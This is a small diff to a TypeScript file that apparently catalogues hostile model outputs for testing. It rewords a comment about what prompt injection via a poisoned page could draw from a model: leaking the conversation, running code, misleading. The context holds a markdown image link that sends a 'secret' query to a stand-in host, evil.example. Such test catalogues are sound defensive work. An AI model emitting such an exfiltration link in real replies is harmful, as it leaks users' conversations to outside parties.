@@ -3,8 +3,8 @@ import { scriptTexts } from "./hostile.ts";
 const evil = "https://evil.example";
 
 /**
- * What a model could be talked into by a poisoned page or a clever question: to send the talk
- * elsewhere, to run, to lead astray.
+ * Responses that a poisoned page or a clever question could draw from a model: leak the
+ * conversation, run code, mislead.
  */
 const markdown: readonly string[] = [
   `![status](${evil}/log?q=P0301+secret)`,
